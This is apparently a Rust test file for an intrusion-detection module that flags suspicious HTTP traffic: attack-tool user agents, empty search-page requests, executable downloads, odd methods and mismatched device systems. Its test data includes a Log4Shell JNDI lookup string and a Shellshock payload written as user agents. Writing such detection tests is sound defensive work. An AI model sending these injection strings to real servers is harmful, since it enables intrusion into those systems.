use super::{ENTRY, has_word, path, system};
use crate::config::Config;
use crate::evidence::{Side, ThreatLevel};
use crate::input::note::{File, Weird};
use crate::input::{Note, NoteBody, Record, Text};
use crate::modules::bench::{Outcome, at, flow, ip, run, said};
use slips_agent::app::record::{App, Http};

const ME: &str = "10.0.0.5";
const SERVER: &str = "203.0.113.80";
const WINDOWS: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36";

fn found(records: Vec<Record>) -> Outcome {
    run(&[&ENTRY], &Config::default(), records)
}

fn request(method: &str, host: &str, uri: &str, agent: &str, mime: &str) -> Record {
    asked(0.0, method, host, uri, agent, mime, 0)
}

fn asked(seconds: f64, method: &str, host: &str, uri: &str, agent: &str, mime: &str, body: u64) -> Record {
    let http: Http<Text> = Http {
        depth: 1,
        method: method.into(),
        host: host.into(),
        uri: uri.into(),
        referrer: "".into(),
        user_agent: agent.into(),
        version: "1.1".into(),
        username: "".into(),
        request_body_len: body,
        response_body_len: 1000,
        status_code: 200,
        status_msg: "OK".into(),
        resp_mime: mime.into(),
    };
    said(&flow(seconds, ME, SERVER, 80), App::Http(http))
}

/// Kinds other than the note that there was a request.
fn kinds(outcome: &Outcome) -> Vec<&'static str> {
    outcome.evidence.iter().map(|e| e.kind).filter(|kind| *kind != "http_traffic").collect()
}

#[test]
fn ordinary_browsing_is_one_note_a_server() {
    let pages = (0..500).map(|i| {
        asked(f64::from(i), "GET", "news.example.com", &format!("/page{i}"), WINDOWS, "text/html", 0)
    });
    let outcome = found(pages.collect());
    assert_eq!((outcome.only().kind, outcome.only().count), ("http_traffic", 500));
    assert_eq!(outcome.only().threat_level, ThreatLevel::Info);
}

#[test]
fn agents_of_attack_tools() {
    for agent in [
        "httpsend",
        "CHM_MSDN",
        "pb",
        "x/1 PB (y)",
        "${jndi:ldap://203.0.113.9/a}",
        "sqlmap/1.7#stable",
        "() { :;}; /bin/ping -c1 203.0.113.9",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine)",
    ] {
        let outcome = found(vec![request("GET", "example.com", "/", agent, "")]);
        assert_eq!(kinds(&outcome), ["suspicious_user_agent"], "{agent}");
        assert_eq!(outcome.of("suspicious_user_agent")[0].threat_level, ThreatLevel::High);
    }
    for agent in
        [WINDOWS, "", "UPB/1.0", "pbx-phone/2", "Debian APT-HTTP/1.3", "curl/8.5.0", "Microsoft NCSI"]
    {
        assert!(kinds(&found(vec![request("GET", "example.com", "/", agent, "")])).is_empty(), "{agent}");
    }
    assert!(has_word("pb", "pb") && has_word("a pb/1", "pb") && !has_word("upb pbx", "pb"));
}

#[test]
fn several_systems_behind_one_address() {
    let with = |agents: &[&str]| {
        let records = agents.iter().map(|agent| request("GET", "example.com", "/", agent, ""));
        found(records.collect()).of("multiple_user_agent").first().map(|e| e.count)
    };
    let linux = "Mozilla/5.0 (X11; Linux x86_64)";
    assert_eq!(with(&[WINDOWS, linux, linux]), Some(2));
    assert_eq!(with(&[WINDOWS, "Microsoft-CryptoAPI/10.0", "curl/8.5.0", WINDOWS]), None);
    assert_eq!(
        with(&["Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X)", "CFNetwork/1494 Darwin/23.4.0"]),
        None
    );
    assert_eq!(system("mozilla/5.0 (linux; android 14)"), Some("Android"));
}

#[test]
fn start_pages_asked_for_nothing() {
    let ask = |n: u32, host: &str, uri: &str, body: u64| {
        let records = (0..n).map(|i| asked(f64::from(i), "GET", host, uri, WINDOWS, "", body));
        found(records.collect()).of("empty_connections").first().map(|e| e.count)
    };
    assert_eq!(ask(4, "www.google.com", "/", 0), Some(4));
    assert_eq!(ask(3, "www.google.com", "/", 0), None);
    assert_eq!(ask(40, "connectivitycheck.gstatic.com", "/generate_204", 0), None);
    assert_eq!(ask(40, "www.google.com", "/search?q=x", 0), None);
    assert_eq!(ask(40, "google.com", "/", 12), None);
    assert_eq!(ask(40, "notgoogle.com", "/", 0), None);
    let turns = (0..6)
        .map(|i| asked(f64::from(i), "GET", ["bing.com", "yahoo.com"][i as usize % 2], "/", WINDOWS, "", 0));
    assert!(found(turns.collect()).of("empty_connections").is_empty(), "three each");
}

#[test]
fn programs_that_are_downloaded() {
    let outcome =
        found(vec![request("GET", "example.com", "/a/setup.exe?x=1", WINDOWS, "application/x-msdownload")]);
    let [here, there] = outcome.of("executable_mime_type")[..] else { panic!("{outcome:?}") };
    assert_eq!((here.attacker_side, there.attacker_side), (Side::Source, Side::Destination));
    assert_eq!((here.threat_level, there.threat_level), (ThreatLevel::Low, ThreatLevel::Low));
    assert!(here.description.ends_with("(x-msdownload) from 203.0.113.80: /a/setup.exe"));
    let level = |uri: &str, mime: &str| {
        let outcome = found(vec![request("GET", "example.com", uri, WINDOWS, mime)]);
        let found = outcome.of("executable_mime_type");
        found.first().map(|e| (e.threat_level, found.len()))
    };
    assert_eq!(level("/update.cab", "application/octet-stream"), Some((ThreatLevel::Info, 1)));
    assert_eq!(level("/x.SCR", "application/octet-stream; charset=binary"), Some((ThreatLevel::Low, 2)));
    assert_eq!(level("/setup.exe", "text/html"), None);
    assert_eq!(level("/a.zip", "application/zip"), None);
}

fn note(body: NoteBody) -> Record {
    Record::Note(Box::new(Note { uid: None, tuple: None, ts_us: at(0.0), body }))
}

#[test]
fn files_that_zeek_saw() {
    let file = |mime: &str| {
        note(NoteBody::File(File {
            sender: Some(ip(SERVER)),
            receiver: Some(ip(ME)),
            source: "HTTP".into(),
            mime: mime.into(),
            name: "".into(),
            bytes: 9,
            md5: None,
            sha1: None,
            sha256: None,
        }))
    };
    assert_eq!(found(vec![file("application/x-dosexec")]).of("executable_mime_type").len(), 2);
    assert!(found(vec![file("image/png"), file("")]).evidence.is_empty());
}

#[test]
fn methods_that_no_standard_knows() {
    for method in ["GET", "PROPFIND", "M-SEARCH", "BITS_POST", ""] {
        assert!(kinds(&found(vec![request(method, "example.com", "/", WINDOWS, "")])).is_empty(), "{method}");
    }
    assert_eq!(kinds(&found(vec![request("HACK", "example.com", "/", WINDOWS, "")])), ["weird_http_method"]);
    let mut weird = Note {
        uid: None,
        tuple: Some(flow(0.0, ME, SERVER, 80).tuple),
        ts_us: at(0.0),
        body: NoteBody::Weird(Weird { name: "unknown_HTTP_method".into(), detail: "HACK".into() }),
    };
    assert_eq!(kinds(&found(vec![Record::Note(Box::new(weird.clone()))])), ["weird_http_method"]);
    weird.body = NoteBody::Weird(Weird { name: "bad_TCP_checksum".into(), detail: "".into() });
    assert!(found(vec![Record::Note(Box::new(weird))]).evidence.is_empty());
}

#[test]
fn paths_of_targets() {
    assert_eq!((path("/a?b"), path("http://x.y/z#q"), path("http://x.y"), path("*")), ("/a", "/z", "/", "*"));
}

/// The system that an agent names, on a device whose maker is known.
#[test]
fn a_system_that_the_device_cannot_have() {
    use slips_agent::record::{FlowRecord, Mac};
    const APPLE: [u8; 3] = [0x3c, 0x22, 0xfb];
    const PI: [u8; 3] = [0xb8, 0x27, 0xeb];
    const MICROSOFT: [u8; 3] = [0x00, 0x50, 0xf2];
    const REALTEK: [u8; 3] = [0x00, 0xe0, 0x4c];
    const MADE_UP: [u8; 3] = [0x3e, 0x22, 0xfb];
    const SAFARI: &str = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15";
    const CHROME: &str = "Mozilla/5.0 (Linux; Android 13; SM-S901B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/112.0 Mobile Safari/537.36";
    let with = |[a, b, c]: [u8; 3], agent: &str| {
        let first =
            FlowRecord { orig_mac: Some(Mac([a, b, c, 1, 2, 3])), ..flow(0.0, ME, "192.168.1.1", 53) };
        let outcome = found(vec![
            crate::modules::bench::rec(first),
            asked(2.0, "GET", "example.com", "/", agent, "text/html", 0),
        ]);
        let told = outcome.of("incompatible_user_agent");
        told.first().map(|evidence| evidence.description.clone())
    };
    assert!(with(APPLE, WINDOWS).unwrap().starts_with("10.0.0.5 is a device made by Apple, Inc., and a program on it says that it is a system of Microsoft (Mozilla"));
    assert!(with(PI, SAFARI).unwrap().contains("Safari, which runs on devices of Apple only"));
    assert!(with(MICROSOFT, CHROME).unwrap().contains("a system of Google"));
    for (device, agent) in [
        (APPLE, SAFARI),
        (APPLE, "MobileAsset/1.1 CFNetwork/1335 Darwin/21.6.0"),
        (APPLE, "curl/8.5.0"),
        (MICROSOFT, WINDOWS),
        (PI, CHROME),
        (PI, WINDOWS),
        (REALTEK, SAFARI),
        (MADE_UP, WINDOWS),
    ] {
        assert_eq!(with(device, agent), None, "{device:x?} {agent}");
    }
}
